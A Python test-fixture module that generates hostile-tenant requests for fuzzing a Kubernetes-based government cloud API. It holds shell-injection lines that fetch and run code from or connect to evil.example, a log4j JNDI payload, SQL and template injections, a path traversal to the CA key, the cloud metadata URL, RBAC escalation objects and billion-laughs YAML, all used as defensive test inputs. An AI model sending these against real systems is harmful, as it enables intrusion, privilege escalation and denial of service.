"""What a hostile tenant might send: generated, the same every time. Pure; nothing here is ever run by anybody."""

from __future__ import annotations

import dataclasses
import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from govcloud_api import labels
from govcloud_api.definitions import DEFINITIONS
from govcloud_kube import Object
from support import places, samples
from support.schema_cases import changed, put

JSON, YAML = "application/json", "application/yaml"
TEXTS = {
    "sql": "'; DROP TABLE environments; --",
    "sql-union": "x' UNION SELECT passwd FROM pg_shadow--",
    "shell": "$(curl evil.example|sh)",
    "backtick": "`id > /tmp/pwned`",
    "pipe": "a; rm -rf / & nc evil.example 1",
    "yaml": "x\n---\napiVersion: v1\nkind: Namespace\nmetadata: {name: pwned}",
    "yaml-tag": "!!python/object/apply:os.system ['id']",
    "jinja": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "jinja-for": "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "go-template": '{{ printf "%s" .Values }}',
    "format": "{0.__class__.__init__.__globals__}%s%n%(x)s",
    "promql": 'x"} or on() vector(1) or {namespace=~".*',
    "json": '"}, {"op": "replace", "path": "/spec", "value": {}} , {"',
    "html": "<script>alert(1)</script>",
    "cel": "' + request.userInfo.username + '",
    "ldap": "*)(uid=*))(|(uid=*",
    "path": "../../../../etc/kubernetes/pki/ca.key",
    "url": "http://169.254.169.254/latest/meta-data",
    "log": "fine\nERROR operator: tenant prey approved\r\nINFO",
    "ansi": "\x1b[2J\x1b[31mapproved\x1b[0m",
    "bidi": "approved\u202edeined\u202c",
    "zero-width": "pr\u200bey",
    "null": "a\u0000b",
    "emoji": "\U0001f4a3" * 50,
    "combining": "e" + "\u0301" * 500,
    "log4j": "${jndi:ldap://evil.example/a}",
}
LOOK_ALIKES = (
    "\u0440rey",
    "pr\u0435y",
    "prey\u2010portal",
    "\uff50rey",
    "pre\u0443",
    "prey\u00ad",
    "PREY",
    "prey.",
    "\u00a0prey",
)
MOMENTS = (
    "2030-01-01T00:00:00",
    "2030-01-01t00:00:00z",
    "2030-01-01 00:00:00Z",
    "2030-01-01T00:00:00.123456789Z",
    "2030-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-23:59",
    "0001-01-01T00:00:00+23:59",
    "0000-01-01T00:00:00Z",
    "2030-06-30T23:59:60Z",
    "2030-02-30T00:00:00Z",
    "2030-01-01T24:00:00Z",
    "2030-01-01",
)
FIELDS: dict[str, tuple[Object, ...]] = {
    "spec.justification.why": (samples.CREATE,),
    "spec.justification.tried": (samples.CHANGE,),
    "spec.product": (samples.CREATE,),
    "spec.environmentRef": (samples.DELETE, samples.POLICY_EXEMPTION),
    "spec.members.0.name": (samples.CREATE,),
    "spec.reason": (samples.APPROVAL, samples.POLICY_EXEMPTION, samples.SERVICE_BINDING),
    "spec.requestRef.name": (samples.APPROVAL,),
    "spec.web.image": (samples.SERVICE_INSTANCE,),
    "spec.web.variables.0.value": (samples.SERVICE_INSTANCE,),
    "metadata.annotations.note": (samples.CREATE, samples.SERVICE_INSTANCE),
    "metadata.labels.note": (samples.SERVICE_BINDING,),
    "metadata.name": (samples.CREATE, samples.SERVICE_BINDING),
}
REFUSED = ("service", "binding", "state", "hosts", "finalizer", "owner")
"""Forgeries that are an error; the server ignores the others, or nobody reads them."""
MEGABYTE = 1024 * 1024


@dataclass(frozen=True, slots=True, kw_only=True)
class Sent:
    """One POST: its name in reports, where it goes, and its bytes."""

    name: str
    path: str
    body: bytes
    content_type: str = JSON
    must_fail: bool = False
    """Everything else may be stored in the tenant's own namespaces, where it must do nothing elsewhere."""


def attacks(mine: places.Place, prey: places.Place, target: Object) -> list[Sent]:
    """All of them, as somebody of `mine` sends them against `prey` and the platform; `target` is a request of prey."""
    loud = [
        *_texts(mine),
        *_moments(mine),
        *_foreign(mine, prey),
        *_words(mine, prey, target),
        *_forged(mine, prey),
        *_bodies(mine),
    ]
    barred = [*_elsewhere(prey), *_rights(mine, prey)]
    return [*loud, *[dataclasses.replace(sent, must_fail=True) for sent in barred]]


def post(obj: Object, name: str, *, must_fail: bool = False) -> Sent:
    """An object of ours or of Kubernetes as a request."""
    group = obj["apiVersion"]
    root = f"/apis/{group}" if "/" in group else f"/api/{group}"
    namespace = obj["metadata"].get("namespace")
    where = f"/namespaces/{namespace}" if namespace else ""
    return Sent(
        name=name, path=f"{root}{where}/{_plural(obj['kind'])}", body=json.dumps(obj).encode(), must_fail=must_fail
    )


def _plural(kind: str) -> str:
    ours = {d.kind: d.plural for d in DEFINITIONS}
    irregular = {"NetworkPolicy": "networkpolicies", "PriorityClass": "priorityclasses", "Endpoints": "endpoints"}
    special = {"Ingress": "ingresses", "ValidatingAdmissionPolicy": "validatingadmissionpolicies"}
    return ours.get(kind) or irregular.get(kind) or special.get(kind) or f"{kind.lower()}s"


def _at(example: Object, place: places.Place, name: str, *changes: Any) -> Object:
    """An example in the namespace where its kind belongs, unsigned and under a name of its own."""
    namespace = place.work if example["kind"].startswith("Service") else place.home
    unsigned = [put(f"spec.{field}", None) for field in ("requestedBy", "decidedBy", "decidedByGroups")]
    moved = [put("metadata.namespace", namespace), put("metadata.name", name)]
    return changed(example, *unsigned, *moved, *changes)


def _texts(mine: places.Place) -> Iterator[Sent]:
    for field, examples in FIELDS.items():
        for example in examples:
            for word, text in (TEXTS | {f"look-{i}": text for i, text in enumerate(LOOK_ALIKES)}).items():
                name = f"{example['kind'].lower()}-{word}-{len(field)}"
                yield post(_at(example, mine, name, put(field, text)), f"{example['kind']} {field} {word}")


def _moments(mine: places.Place) -> Iterator[Sent]:
    """Times that some readers of times do not expect."""
    for index, moment in enumerate(MOMENTS):
        yield post(
            _at(samples.POLICY_EXEMPTION, mine, f"when-{index}", put("spec.expiresAt", moment)), f"until {moment}"
        )
        restore = put("spec.restoreFrom", {"instance": "old", "time": moment})
        yield post(_at(samples.SERVICE_INSTANCE, mine, f"when-{index}", restore), f"as of {moment}")


def _foreign(mine: places.Place, prey: places.Place) -> Iterator[Sent]:
    names = ("portal-prod", prey.work, f"{prey.home}/portal-prod", f"../{prey.home}", "kube-system", "govcloud-system")
    for index, name in enumerate(names):
        for example in (samples.CHANGE, samples.DELETE, samples.EXTEND, samples.TRANSFER, samples.POLICY_EXEMPTION):
            obj = _at(
                example,
                mine,
                f"ref-{index}-{example['spec'].get('type', 'x').lower()}",
                put("spec.environmentRef", name),
            )
            yield post(obj, f"{example['kind']} about {name}")
        yield post(
            _at(samples.SERVICE_BINDING, mine, f"ref-{index}", put("spec.instanceRef", name)), f"binding to {name}"
        )
        restore = put("spec.restoreFrom", {"instance": name})
        yield post(_at(samples.SERVICE_INSTANCE, mine, f"ref-{index}", restore), f"restore from {name}")


def _words(mine: places.Place, prey: places.Place, target: Object) -> Iterator[Sent]:
    """Decisions about the request of another department, which exists just like that."""
    exact = {"name": target["metadata"]["name"], "uid": target["metadata"]["uid"]}
    exact |= {"specHash": (target.get("status") or {}).get("specHash", samples.SPEC_HASH)}
    for index, namespace in enumerate((prey.home, "govcloud-approvals", "kube-system", mine.home)):
        about = put("spec.requestRef", exact | {"namespace": namespace, "kind": "EnvironmentRequest"})
        for role in ("owner", "approver", "finance"):
            for verdict in ("Approve", "Deny"):
                changes = (about, put("spec.verdict", verdict), put("spec.role", role))
                obj = _at(samples.APPROVAL, mine, f"word-{index}-{role}-{verdict.lower()}", *changes)
                yield post(obj, f"{verdict} as {role} of a request in {namespace}")


def _forged(mine: places.Place, prey: places.Place) -> Iterator[Sent]:
    owner = {"apiVersion": labels.API_VERSION, "kind": "Environment", "name": "portal-prod", "uid": "u"}
    forgeries: dict[str, Object] = {
        "department": {"labels": {labels.DEPARTMENT: prey.code}},
        "service": {"labels": {labels.SERVICE: "db"}},
        "binding": {"labels": {labels.BINDING: "db"}},
        "manager": {"labels": {labels.MANAGED_BY: labels.MANAGER}},
        "state": {"annotations": {labels.OWNER_UID: "u"}},
        "hosts": {"annotations": {labels.INGRESS_HOSTS: "www.prey.example"}},
        "finalizer": {"finalizers": [labels.ENVIRONMENT_FINALIZER]},
        "owner": {"ownerReferences": [owner | {"controller": True, "blockOwnerDeletion": True}]},
        "uid": {"uid": "00000000-0000-0000-0000-000000000000", "generation": 99, "selfLink": "/x"},
    }
    statuses = {
        "phase": "Approved",
        "conditions": [{"type": "Ready", "status": "True", "reason": "Forged", "message": ""}],
    }
    kinds = (
        samples.CREATE,
        samples.APPROVAL,
        samples.POLICY_EXEMPTION,
        samples.SERVICE_INSTANCE,
        samples.SERVICE_BINDING,
    )
    for example in (*kinds, samples.ENVIRONMENT):
        for word, metadata in forgeries.items():
            obj = _at(example, mine, f"forged-{word}")
            forged = obj | {"metadata": obj["metadata"] | metadata}
            yield post(forged, f"{example['kind']} with forged {word}", must_fail=word in REFUSED)
        yield post(_at(example, mine, "forged-status") | {"status": statuses}, f"{example['kind']} with a status")
    for word, metadata in forgeries.items():
        for obj in (
            places.pod(mine.work, f"forged-{word}"),
            places.workload(mine.work, "Deployment", f"forged-{word}"),
        ):
            forged = obj | {"metadata": obj["metadata"] | metadata}
            yield post(forged, f"{obj['kind']} with forged {word}", must_fail=word in REFUSED)


def _elsewhere(prey: places.Place) -> Iterator[Sent]:
    spots = (
        prey.home,
        prey.work,
        "default",
        "kube-system",
        "govcloud-system",
        "govcloud-tenants",
        "govcloud-approvals",
    )
    for namespace in spots:
        for example in samples.ALL:
            if "namespace" in example["metadata"]:
                moved = changed(example, put("metadata.namespace", namespace), put("metadata.name", "intruder"))
                yield post(moved, f"{example['kind']} in {namespace}")
        yield post(places.pod(namespace, "intruder"), f"Pod in {namespace}")
    for example in samples.ALL:
        if "namespace" not in example["metadata"]:
            yield post(changed(example, put("metadata.name", "intruder")), f"{example['kind']} of one's own")


def _rights(mine: places.Place, prey: places.Place) -> Iterator[Sent]:
    rbac = "rbac.authorization.k8s.io"
    admin = {"apiGroup": rbac, "kind": "ClusterRole", "name": "cluster-admin"}
    me = [{"apiGroup": rbac, "kind": "User", "name": f"{mine.code}-owner"}]
    every = [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]
    here = {"namespace": mine.work}
    objects: list[tuple[str, str, Object, Object]] = [
        (f"{rbac}/v1", "RoleBinding", here, {"roleRef": admin, "subjects": me}),
        (f"{rbac}/v1", "ClusterRoleBinding", {}, {"roleRef": admin, "subjects": me}),
        (f"{rbac}/v1", "Role", here, {"rules": every}),
        (f"{rbac}/v1", "ClusterRole", {}, {"rules": every}),
        ("v1", "Namespace", {"labels": {labels.DEPARTMENT: prey.code}}, {}),
        ("v1", "Namespace", {"labels": {labels.PSA_ENFORCE: "privileged"}}, {}),
        ("v1", "ResourceQuota", here, {"spec": {"hard": {"pods": "1000"}}}),
        ("v1", "LimitRange", here, {"spec": {"limits": []}}),
        ("networking.k8s.io/v1", "NetworkPolicy", here, {"spec": {"podSelector": {}, "egress": [{}], "ingress": [{}]}}),
        ("v1", "Endpoints", here, {"subsets": [{"addresses": [{"ip": "10.96.0.1"}], "ports": [{"port": 443}]}]}),
        ("v1", "PersistentVolume", {}, {"spec": {"hostPath": {"path": "/"}, "capacity": {"storage": "1Gi"}}}),
        ("scheduling.k8s.io/v1", "PriorityClass", {}, {"value": 1000000000}),
        ("v1", "Node", {}, {}),
        ("admissionregistration.k8s.io/v1", "ValidatingAdmissionPolicy", {}, {"spec": {}}),
        ("apiextensions.k8s.io/v1", "CustomResourceDefinition", {}, {"spec": {}}),
        ("certificates.k8s.io/v1", "CertificateSigningRequest", {}, {"spec": {}}),
        ("v1", "Secret", here, {"type": "kubernetes.io/service-account-token"}),
        ("v1", "Service", here, {"spec": {"type": "NodePort", "ports": [{"port": 80}]}}),
        ("v1", "Service", here, {"spec": {"externalIPs": ["10.96.0.1"], "ports": [{"port": 80}]}}),
        ("v1", "Service", here, {"spec": {"type": "ExternalName", "externalName": f"web.{prey.work}.svc"}}),
    ]
    for api_version, kind, metadata, rest in objects:
        obj = {"apiVersion": api_version, "kind": kind, "metadata": {"name": "intruder", **metadata}, **rest}
        yield post(obj, f"{kind} that gives more rights")
    for host in (f"{prey.work}.apps.govcloud.internal", f"www.{prey.code}.example", "*", "*.example", ""):
        yield post(places.ingress(mine.work, host), f"Ingress for {host or 'everybody'}")
    for field, value in {
        "hostNetwork": True,
        "hostPID": True,
        "nodeName": "w1",
        "priorityClassName": "system-node-critical",
        "volumes": [{"name": "v", "hostPath": {"path": "/"}}],
        "containers": [places.container("docker.io/evil:1")],
    }.items():
        yield post(places.pod(mine.work, f"pod-{field.lower()}", **{field: value}), f"Pod with {field}")


def _bodies(mine: places.Place) -> Iterator[Sent]:
    """Too big, too deep, not what they seem."""
    path = f"/apis/{labels.API_VERSION}/namespaces/{mine.home}/environmentrequests"
    big = "x" * (MEGABYTE * 3 // 2)
    for field in ("spec.justification.why", "metadata.annotations.big", "spec.surprise", "metadata.name"):
        yield post(_at(samples.CREATE, mine, f"big-{len(field)}", put(field, big)), f"1.5 MiB in {field}")
    many = [{"kind": "User", "name": f"u{i}", "role": "viewer"} for i in range(30000)]
    yield post(_at(samples.CREATE, mine, "many", put("spec.members", many)), "30000 members")
    yield post(
        _at(samples.CREATE, mine, "labels", put("metadata.labels", {f"l{i}": "" for i in range(9000)})), "9000 labels"
    )
    start = json.dumps(_at(samples.CREATE, mine, "deep"))[:-1]
    for depth in (100, 1000, 9000, 100000):
        for opened, closed in (("[", "]"), ('{"a":', "}")):
            inner = opened * depth + "1" + closed * depth
            yield Sent(name=f"{depth} deep {opened}", path=path, body=f'{start}, "x": {inner}}}'.encode())
    laughs = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{c}: &{c} [{','.join(['*' + p] * 9)}]\n" for p, c in zip("bcdefghi", "abcdefgh", strict=True)
    )
    yield Sent(name="a thousand million laughs", path=path, body=laughs.encode(), content_type=YAML)
    for name, body in {
        "nothing": b"",
        "not utf-8": b'{"apiVersion": "\xff\xfe"}',
        "a list": b"[]",
        "two keys": b'{"apiVersion":"govcloud.internal/v1alpha1","kind":"EnvironmentRequest","kind":"Environment"}',
        "half": start.encode(),
        "numbers": b'{"apiVersion":1e999,"kind":NaN}',
        "protobuf": b"k8s\x00" + bytes(range(256)),
    }.items():
        yield Sent(name=f"body: {name}", path=path, body=body)
